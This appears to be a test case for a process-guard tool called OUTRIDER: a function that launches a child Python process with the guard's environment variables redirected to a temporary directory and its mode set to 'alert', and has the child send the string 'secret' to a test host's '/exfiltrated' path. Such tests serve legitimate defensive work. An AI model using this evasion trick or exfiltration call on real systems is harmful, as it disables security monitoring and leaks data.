"""A child that is told another policy, and another place to look for it."""

import os
import subprocess
import sys

CODE = "import urllib.request; urllib.request.urlopen('http://%s/exfiltrated', b'secret')"


def attack(event):
    names = ("OUTRIDER_GUARD", "OUTRIDER_POLICY", "OUTRIDER_DIR", "OUTRIDER_ROOT")
    environment = dict(os.environ, LD_PRELOAD="", OUTRIDER_MODE="alert")
    for name in names:
        environment[name] = event["tmp"]
    command = [sys.executable, "-c", CODE % event["web"]]
    return subprocess.run(command, env=environment, capture_output=True).stderr.decode()
